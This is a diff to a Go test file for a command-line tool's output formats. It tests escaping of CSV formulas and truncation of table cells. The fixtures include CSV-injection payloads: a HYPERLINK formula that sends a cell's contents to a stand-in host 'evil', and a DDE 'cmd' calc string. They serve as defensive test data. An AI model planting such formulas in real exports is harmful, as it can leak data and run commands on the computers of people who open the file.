@@ -1,3 +1,5 @@
+// Output formats: golden files, escaping of hostile text, csv formula guards, table widths.
+
 package main
 
 import (
@@ -136,7 +138,6 @@ func TestEscapeText(t *testing.T) {
 	}
 	assert.Equal(t, "a b c d", escapeText("a\tb\nc\rd", spaceForBreaks))
 	assert.Equal(t, `a`+"\t"+`b\x0ac`, escapeText("a\tb\nc", keepTab))
-	assert.Equal(t, "-", tableCell(""))
 }
 
 // TestJSONString: the JSON writer's strings are valid JSON that decodes to
@@ -185,4 +186,94 @@ func FuzzEscapeText(f *testing.F) {
 			assert.Equal(t, s, out)
 		}
 	})
+}
+
+// formulas are cells a spreadsheet would run (CSV injection).
+var formulas = []hsstest.Registry{
+	{RegistryID: "f1", RegistryName: `=HYPERLINK("http://evil/?"&A1,"x")`, RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed, FailedReason: "@SUM(1)"},
+	{RegistryID: "f2", RegistryName: "+cmd|' /C calc'!A0", RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed, FailedReason: "-2+3"},
+	{RegistryID: "f3", RegistryName: "\ttabbed", RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed, FailedReason: "\rreturned"},
+	{RegistryID: "f4", RegistryName: "plain-name", RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed, FailedReason: "a = b, c - d"},
+}
+
+// TestCSVGuardsFormulas: a csv cell that starts with =, +, -, @ or a tab
+// gets a ' in front, so that no spreadsheet runs it (a carriage return is
+// escaped to \x0d, which starts with a backslash); --csv-raw writes the
+// cells as they are. Other formats keep the text.
+func TestCSVGuardsFormulas(t *testing.T) {
+	f := newFixture(t)
+	f.srv.AddRegistries("formulas", formulas...)
+	args := f.args("registries", "--task-id", "formulas", "--output", "csv", "--fields", "registry_name,failed_reason")
+
+	r := f.run(args...)
+	require.Equal(t, exitOK, r.code, r.stderr)
+	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	require.NoError(t, err)
+	assert.Equal(t, [][]string{
+		{"registry_name", "failed_reason"},
+		{`'=HYPERLINK("http://evil/?"&A1,"x")`, "'@SUM(1)"},
+		{"'+cmd|' /C calc'!A0", "'-2+3"},
+		{"'\ttabbed", `\x0dreturned`},
+		{"plain-name", "a = b, c - d"},
+	}, rows)
+
+	r = f.run(append(args, "--csv-raw")...)
+	require.Equal(t, exitOK, r.code, r.stderr)
+	rows, err = csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	require.NoError(t, err)
+	assert.Equal(t, []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "@SUM(1)"}, rows[1])
+	assert.Equal(t, []string{"+cmd|' /C calc'!A0", "-2+3"}, rows[2])
+
+	r = f.run(f.args("registries", "--task-id", "formulas", "--output", "jsonl", "--fields", "registry_name")...)
+	assert.Contains(t, r.stdout, `{"registry_name":"=HYPERLINK(\"http://evil/?\"&A1,\"x\")"}`, "json keeps the text")
+
+	// hss wait writes csv the same way.
+	f.srv.AddRegistries("settled", formulas[1])
+	r = f.run(f.args("wait", "--task-id", "settled", "--output", "csv", "--fields", "failed_reason")...)
+	assert.Equal(t, "failed_reason\n'-2+3\n", r.stdout)
+}
+
+// TestTableCutsLongCells: a table cuts a cell at 64 characters, ending it
+// with "…", so one long value cannot pad every row; --wide shows it whole;
+// csv, json and jsonl never cut.
+func TestTableCutsLongCells(t *testing.T) {
+	f := newFixture(t)
+	long := strings.Repeat("n", 100000)
+	f.srv.AddRegistries("long",
+		hsstest.Registry{RegistryID: "r1", RegistryName: long, RegistryType: hss.RegistryTypeHarbor, SyncStatus: hss.SyncStatusFinished},
+		hsstest.Registry{RegistryID: "r2", RegistryName: "short", RegistryType: hss.RegistryTypeHarbor, SyncStatus: hss.SyncStatusFinished})
+
+	r := f.run(f.args("registries", "--task-id", "long")...)
+	require.Equal(t, exitOK, r.code, r.stderr)
+	assert.Less(t, len(r.stdout), 1000)
+	rows := lines(r.stdout)
+	assert.Equal(t, "r1           "+strings.Repeat("n", 63)+"…  Harbor  finished  -", rows[1])
+	assert.Equal(t, "r2           short"+strings.Repeat(" ", 61)+"Harbor  finished  -", rows[2])
+
+	r = f.run(f.args("registries", "--task-id", "long", "--wide")...)
+	require.Equal(t, exitOK, r.code, r.stderr)
+	assert.Contains(t, r.stdout, "r1           "+long+"  Harbor")
+
+	for _, format := range []string{"csv", "json", "jsonl"} {
+		r = f.run(f.args("registries", "--task-id", "long", "--output", format)...)
+		require.Equal(t, exitOK, r.code, r.stderr)
+		assert.Contains(t, r.stdout, long, format)
+		assert.NotContains(t, r.stdout, "…", format)
+	}
+}
+
+// TestTableCell: the cut counts characters, keeps a cell of exactly 64,
+// and never splits an escape.
+func TestTableCell(t *testing.T) {
+	assert.Equal(t, "-", tableCell("", false))
+	exact := strings.Repeat("é", 64)
+	assert.Equal(t, exact, tableCell(exact, false))
+	assert.Equal(t, strings.Repeat("é", 63)+"…", tableCell(exact+"é", false))
+	assert.Equal(t, exact+"é", tableCell(exact+"é", true))
+	for pad := 55; pad <= 64; pad++ {
+		got := tableCell(strings.Repeat("a", pad)+"\u202e\x1b"+strings.Repeat("b", 20), false)
+		assert.LessOrEqual(t, utf8.RuneCountInString(got), 64)
+		assert.Regexp(t, `^a+(\\u202e)?(\\x1b)?b*…$`, got, "pad %d", pad)
+	}
+	assert.Equal(t, `C:\users\`+strings.Repeat("x", 54)+"…", tableCell(`C:\users\`+strings.Repeat("x", 60), false), "a backslash that starts no escape is text")
 }
